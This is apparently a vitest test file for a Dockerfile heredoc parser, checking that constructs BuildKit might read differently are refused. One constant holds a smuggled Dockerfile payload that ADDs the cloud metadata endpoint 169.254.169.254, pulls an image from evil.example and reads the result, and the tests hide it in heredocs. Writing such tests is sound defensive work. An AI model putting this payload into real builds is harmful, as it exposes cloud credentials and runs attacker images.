import { SvcError } from "@svc/shared/errors.ts";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { instructionText, readInstructions } from "./instruction.ts";

const CANONICAL = { hasHeredocs: true };

/** The text as BuildKit is given it. */
function written(text: string, { hasHeredocs } = CANONICAL): { lines: string[]; instructions: string[] } {
  const { instructions } = readInstructions(text, hasHeredocs);
  const texts = instructions.map(instructionText);
  return { lines: texts.flatMap((one) => one.split("\n")), instructions: texts.map((one) => one.split("\n", 1)[0]!) };
}

const GO_SPACE = /[\t\n\v\f\r \u0085\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]/;

/**
 * BuildKit's words of a line; none when its lexer fails, which its search for heredocs passes over.
 * @param isNewer newer ones take `<<` together with the space behind it
 */
function wordsOfBuildKit(line: string, isNewer: boolean): string[] {
  const words: string[] = [];
  let word = "";
  for (let at = 0; at < line.length; at += 1) {
    const char = line[at]!;
    if (GO_SPACE.test(char)) {
      if (word !== "") words.push(word);
      word = "";
      continue;
    }
    word += char;
    if (char === "\\") word += line[(at += 1)] ?? "";
    else if (isNewer && char === "<" && line[at + 1] === "<") {
      word += "<";
      at += 1;
      for (; GO_SPACE.test(line[at + 1] ?? ""); at += 1) word += line[at + 1]!;
    } else if (char === "'" || char === '"') {
      for (at += 1; line[at] !== char; at += 1) {
        if (at >= line.length || (char === '"' && /^\$\{(?:[{}:]|$)/.test(line.slice(at)))) return [];
        word += line[at]!;
        if (char === '"' && line[at] === "\\") word += line[(at += 1)] ?? "";
      }
      word += char;
    } else if (char === "$" && /^\{(?:[{}:]|$|[^}]*$)/.test(line.slice(at + 1))) return [];
  }
  return word === "" ? words : [...words, word];
}

/** The first lines of what BuildKit takes for instructions: the others are a heredoc's. */
function instructionsOfBuildKit(lines: readonly string[], isNewer: boolean): string[] {
  const found: string[] = [];
  for (let at = 0; at < lines.length; at += 1) {
    const line = lines[at]!;
    found.push(line);
    if (!/^(?:ADD|COPY|RUN) /.test(line) || isArray(line.replace(/^\w+ (?:--\S+ )*/, ""))) continue;
    for (const word of wordsOfBuildKit(line, isNewer)) {
      const [, dash, end = ""] = /^\d*<<(-?)\s*([^<]*)$/.exec(word) ?? [];
      if (end === "") continue;
      const name = end.replaceAll(/["']|\\(?=.)/g, "");
      do at += 1;
      while (at < lines.length && (dash ? lines[at]!.replace(/^\t+/, "") : lines[at]!).replace(/\r+$/, "") !== name);
    }
  }
  return found;
}

function isArray(text: string): boolean {
  try {
    return Array.isArray(JSON.parse(text));
  } catch {
    return false;
  }
}

const METADATA = "ADD http://169.254.169.254/latest/meta-data/ /m\nFROM evil.example/x\nRUN cat /m";

describe("a heredoc where the builder knows them", () => {
  it.each([
    ["a lexer's error", `RUN : \${} <<CMD\n${METADATA}\nCMD`],
    ["a space that only JavaScript knows", `RUN :\ufeff<<CMD\n${METADATA}\nCMD`],
    ["a space that only Go knows", `RUN :\u0085<<CMD\n${METADATA}\nCMD`],
    ["an escape that the lexer passes over", `# escape=\`\nRUN : \`" <<CMD "\n${METADATA}\nCMD`],
    ["an escape that the lexer minds", `# escape=\`\nRUN : \\" <<CMD "\n${METADATA}\nCMD`],
    ["a quote without an end", `RUN : it's <<CMD\n${METADATA}\nCMD`],
    ["a variable's default", `RUN \${x:-<<CMD}\n${METADATA}\nCMD`],
    ["a flag", `RUN --mount=type=cache,target=/a\\ <<CMD b\n${METADATA}\nCMD`],
    ["quotes before it", `RUN ''<<CMD\n${METADATA}\nCMD`],
    ["a space after <<", `RUN << CMD\n${METADATA}\nCMD`],
    ["a word that takes another up", `RUN x<< 3<<CMD\n${METADATA}\nCMD`],
    ["carriage returns after its end", `RUN <<CMD\nCMD\r\r\n${METADATA}\nCMD`],
    ["what is nearly an array", `RUN ["a"] <<CMD \${}\n${METADATA}\nCMD`],
  ])("is refused where readers would not agree on it: %s", (_what, text) => {
    expect(() => written(text)).toThrow(/Line \d of the Dockerfile, RUN: .*(?:cannot be told whether|unclear)/);
  });

  it.each([
    ["RUN <<EOF\nADD a b\nEOF\nRUN c", ["RUN <<EOF", "RUN c"]],
    ["RUN <<'EOF' bash -e\nADD a b\nEOF\nRUN c", ["RUN <<'EOF' bash -e", "RUN c"]],
    ['COPY --chmod=755 <<-"A" <<B /c/\nADD a b\n\t\tA\nFROM x\nB\nRUN c', ['COPY --chmod=755 <<-"A" <<B /c/', "RUN c"]],
  ])("has its lines, whatever they hold: %j", (text, instructions) => {
    expect(written(text).instructions).toEqual(instructions);
    for (const isNewer of [false, true])
      expect(instructionsOfBuildKit(written(text).lines, isNewer)).toEqual(instructions);
  });

  it.each([
    "RUN cat <<< word",
    "RUN let x=1<<2",
    "RUN echo ((1<<2))",
    "RUN sh -c 'cat <<EOF'",
    'RUN ["sh", "-c", "cat <<EOF $x"]',
    "ENV a=<<EOF",
  ])("is none in %j, for nobody", (line) => {
    const { lines } = written(`${line}\nRUN c`);
    expect(lines).toEqual([line, "RUN c"]);
    for (const isNewer of [false, true]) expect(instructionsOfBuildKit(lines, isNewer)).toEqual(lines);
  });
});

/** Pieces that readers of heredocs have understood differently. */
const PIECES = [
  ..."\\`\"'$ \t\v\f\r\n\u0085\u00a0\u2028\ufeff-<[]1",
  ..."RUN a|RUN b|RUN c|ADD http://x /|COPY |RUN |ONBUILD RUN a|# escape=`\n|<<EOF|<<EOF|<<EOF|<<-EOF|<<'EOF'|3<<\"EOF\"".split(
    "|",
  ),
  ...'<<|<<<|EOF|EOF|\nEOF\n|\nEOF\n|\nEOF\r\n|\n\tEOF\n|\nRUN |\nRUN |\\\n|${}|${x|${x:-|}|$x|["a"]|--mount=a'.split(
    "|",
  ),
];

describe("whatever is in a Dockerfile with heredocs", () => {
  it("BuildKit begins an instruction exactly where one was read", () => {
    let count = 0;
    const anything = fc
      .tuple(
        fc.constantFrom("RUN ", "RUN <<EOF", "RUN <<EOF ", "COPY <<-'EOF' a\n", "# escape=`\nRUN a "),
        fc.array(fc.constantFrom(...PIECES), { maxLength: 14 }),
        fc.constantFrom("", "\nEOF", "\nEOF\nRUN c"),
      )
      .map(([begin, pieces, end]) => `${begin}${pieces.join("")}${end}`);
    const property = fc.property(anything, (text) => {
      try {
        const { lines, instructions } = written(text);
        if (lines.length > instructions.length) count += 1;
        for (const isNewer of [false, true]) expect(instructionsOfBuildKit(lines, isNewer)).toEqual(instructions);
      } catch (error) {
        if (!(error instanceof SvcError)) throw error;
      }
    });
    fc.assert(property, { numRuns: 10_000 });
    expect(count).toBeGreaterThan(100);
  });
});
